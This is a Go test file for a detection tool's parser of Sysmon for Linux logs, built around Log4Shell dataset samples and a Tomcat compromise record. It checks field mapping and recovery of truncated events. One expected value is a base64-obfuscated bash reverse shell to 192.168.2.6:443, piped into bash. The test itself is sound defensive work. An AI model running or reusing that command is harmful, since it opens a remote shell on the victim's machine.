package windows

import (
	"archive/zip"
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"

	"webshellbeat/detection"
)

const (
	tomcatSyslog  = "../../testdata/samples/tomcat_log4shell_syslog.log"
	otrfLog4Shell = data + "OTRF-Security-Datasets/datasets/compound/Log4Shell/"
)

// zipLines returns the lines of the one file in a shared OTRF zip.
func zipLines(t *testing.T, path string) []string {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	if len(z.File) != 1 {
		t.Fatalf("%s: %d members, want 1", path, len(z.File))
	}
	f, err := z.File[0].Open()
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		out = append(out, sc.Text())
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// OTRF's Log4Shell set holds Sysmon for Linux events as Azure Monitor
// collected them from syslog: every one is read, including one cut short
// by the collector and sixteen with Sysmon for Linux's "&lt " references;
// the auoms records beside them are refused with a reason.
func TestSysmonLinuxAzureSyslog(t *testing.T) {
	var read, partial, processStarts int
	for i, line := range zipLines(t, otrfLog4Shell+"syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip") {
		r, err := ParseJSON([]byte(line))
		if err != nil {
			t.Errorf("line %d: %v", i+1, err)
			continue
		}
		read++
		if r.Partial != "" {
			partial++
		}
		if !r.IsLinux() || !r.IsSysmon() || r.Computer != "UBUNTU5" || r.TimeCreated.IsZero() {
			t.Errorf("line %d: channel %q, computer %q, time %v", i+1, r.Channel, r.Computer, r.TimeCreated)
		}
		for _, kv := range r.EventData {
			if strings.Contains(kv.Value, "&") {
				t.Errorf("line %d: %s = %q keeps a character reference", i+1, kv.Key, kv.Value)
			}
		}
		doc := r.ECS()
		if detection.LookupString(doc, "host.os.type") != "linux" || detection.LookupString(doc, "event.module") != "sysmon_linux" {
			t.Errorf("line %d: host.os.type %q, event.module %q", i+1, detection.LookupString(doc, "host.os.type"), detection.LookupString(doc, "event.module"))
		}
		if r.EventID == 1 {
			processStarts++
		}
	}
	if read != 93 || partial != 1 || processStarts != 31 {
		t.Errorf("read %d records (%d partial, %d process starts), want 93 (1, 31)", read, partial, processStarts)
	}
	for i, line := range zipLines(t, otrfLog4Shell+"syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip") {
		_, err := ParseJSON([]byte(line))
		if err == nil || !strings.Contains(err.Error(), `syslog record from "auoms" holds no Sysmon <Event> XML`) || !strings.Contains(err.Error(), "hunt reads them (module/auditd)") || !strings.Contains(err.Error(), "auditd input") {
			t.Fatalf("auoms line %d: %v", i+1, err)
		}
	}
}

// The Tomcat reverse shell of the bundled syslog sample: Java starts bash,
// the message was cut inside ParentCommandLine, and what arrived is mapped.
func TestSysmonLinuxSyslogLine(t *testing.T) {
	var shell string
	f, err := os.Open(tomcatSyslog)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if strings.Contains(sc.Text(), "{base64,-d}") && strings.Contains(sc.Text(), "sysmon:") {
			shell = sc.Text()
		}
	}
	r, err := ParseSyslog(shell)
	if err != nil {
		t.Fatal(err)
	}
	doc := r.ECS()
	for path, want := range map[string]string{
		"process.executable":        "/bin/bash",
		"process.name":              "bash",
		"process.parent.name":       "java",
		"process.working_directory": "/",
		"user.name":                 "tomcat",
		"host.name":                 "UBUNTU5",
		"event.dataset":             "sysmon_linux.log",
		"error.message":             `event XML cut short after 2012 bytes (syslog message truncated in transport): Data "ParentCommandLine" is incomplete and any after it are missing`,
	} {
		if got := detection.LookupString(doc, path); got != want {
			t.Errorf("%s = %q, want %q", path, got, want)
		}
	}
	// Linux command lines split on spaces: the braces are bash's, not quoting.
	args, _ := detection.Lookup(doc, "process.args")
	if want := []string{"bash", "-c", "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"}; !equalStrings(args, want) {
		t.Errorf("process.args = %q, want %q", args, want)
	}
	if cmd := detection.LookupString(doc, "process.parent.command_line"); !strings.HasPrefix(cmd, "/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties") {
		t.Errorf("the cut ParentCommandLine keeps what arrived: %q", cmd)
	}
	if _, err := ParseSyslog("May 11 18:10:22 UBUNTU5 CRON[123]: (root) CMD (true)"); !errors.Is(err, ErrMalformed) || !strings.Contains(err.Error(), "no Sysmon <Event>") {
		t.Errorf("a line without an event: %v", err)
	}
}

func equalStrings(v any, want []string) bool {
	got, ok := v.([]string)
	if !ok || len(got) != len(want) {
		return false
	}
	for i := range got {
		if got[i] != want[i] {
			return false
		}
	}
	return true
}

// A message cut anywhere inside EventData is closed, keeping every whole
// Data element and what arrived of the cut one; cut before EventData, it
// is an error.
func TestCloseTruncated(t *testing.T) {
	const whole = `<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer></System>` +
		`<EventData><Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh -c &quot;id&quot;</Data><Data Name="User">www-data</Data></EventData></Event>`
	cut := func(marker string) string { return whole[:strings.Index(whole, marker)] }
	for _, tt := range []struct {
		name, msg  string
		image, cmd string
		lost       string // in Partial; "" for an error
	}{
		{"inside a value", cut("id&quot;</Data>") + "i", "/bin/sh", "sh -c \"i", `Data "CommandLine" is incomplete`},
		{"inside a reference", cut(`&quot;id`) + "&qu", "/bin/sh", "sh -c ", `Data "CommandLine" is incomplete`},
		{"inside a closing tag", cut(`</Data><Data Name="User">`) + "</Da", "/bin/sh", "sh -c \"id\"", `Data "CommandLine" is incomplete`},
		{"between elements", cut(`<Data Name="User">`), "/bin/sh", `sh -c "id"`, `the Data elements after "CommandLine" are missing`},
		{"inside a start tag", cut(`<Data Name="User">`) + `<Data Na`, "/bin/sh", `sh -c "id"`, `the Data elements after "CommandLine" are missing`},
		{"after an empty element", cut(`<Data Name="User">`) + `<Data Name="Empty"/>`, "/bin/sh", `sh -c "id"`, `the Data elements after "Empty" are missing`},
		{"right after EventData", cut(`<Data Name="Image">`), "", "", "every Data element is missing"},
		{"inside System", cut("<Computer>"), "", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r, err := ParseSyslog("May 11 18:10:22 web1 sysmon: " + tt.msg)
			if tt.lost == "" {
				if err == nil {
					t.Fatalf("parsed %+v, want an error", r)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if r.EventData.Value("Image") != tt.image || r.EventData.Value("CommandLine") != tt.cmd || !strings.Contains(r.Partial, tt.lost) {
				t.Errorf("Image %q, CommandLine %q, Partial %q; want %q, %q, %q", r.EventData.Value("Image"), r.EventData.Value("CommandLine"), r.Partial, tt.image, tt.cmd, tt.lost)
			}
		})
	}
	r, err := ParseSyslog("<13>1 2022-05-11T18:10:22Z web1 sysmon - - - " + whole)
	if err != nil || r.Partial != "" || r.EventData.Value("CommandLine") != `sh -c "id"` {
		t.Errorf("a whole event: %+v, %v", r, err)
	}
}

// Sysmon for Linux's "&lt " is read as "<"; it never occurs in well-formed
// XML, which reads as it did.
func TestBareEntities(t *testing.T) {
	const ev = `<Event><System><Provider Name="Linux-Sysmon"/><EventID>5</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name="Image">%s</Data></EventData></Event>`
	for in, want := range map[string]string{
		"&lt unknown process&gt ":        "<unknown process>",
		"&lt;unknown process&gt;":        "<unknown process>",
		"a &amp;&amp; b &quot  | grep =": `a && b " | grep =`,
		"&amp;lt x":                      "&lt x",
	} {
		r, err := ParseSyslog("sysmon: " + strings.Replace(ev, "%s", in, 1))
		if err != nil {
			t.Errorf("%q: %v", in, err)
			continue
		}
		if got := r.EventData.Value("Image"); got != want {
			t.Errorf("%q read as %q, want %q", in, got, want)
		}
	}
}

// `journalctl -o json` entries: Sysmon's are read; another program's is
// refused with the export command that leaves it out.
func TestSysmonLinuxJournalJSON(t *testing.T) {
	var line string
	for _, l := range strings.Split(string(readFile(t, tomcatSyslog)), "\n") {
		if strings.Contains(l, "sysmon: ") && strings.Contains(l, "whoami") {
			line = l
		}
	}
	msg := line[strings.Index(line, "sysmon: ")+len("sysmon: "):]
	entry := func(ident, msg string) []byte {
		b, err := json.Marshal(map[string]string{"__REALTIME_TIMESTAMP": "1652292633153000", "_HOSTNAME": "UBUNTU5", "SYSLOG_IDENTIFIER": ident, "MESSAGE": msg})
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	v, err := decodeOneJSON(entry("sysmon", msg))
	if err != nil || DetectJSON(v) != ShapeJournal {
		t.Fatalf("shape %v, %v", DetectJSON(v), err)
	}
	r, err := ParseJSON(entry("sysmon", msg))
	if err != nil {
		t.Fatal(err)
	}
	if r.EventData.Value("CommandLine") != "whoami" || !r.IsLinux() || r.Computer != "UBUNTU5" {
		t.Errorf("record %+v", r)
	}
	if _, err := ParseJSON(entry("sshd", "Accepted publickey for alice")); err == nil || !strings.Contains(err.Error(), `from "sshd"`) || !strings.Contains(err.Error(), "journalctl -t sysmon -o json") {
		t.Errorf("another program's entry: %v", err)
	}
}
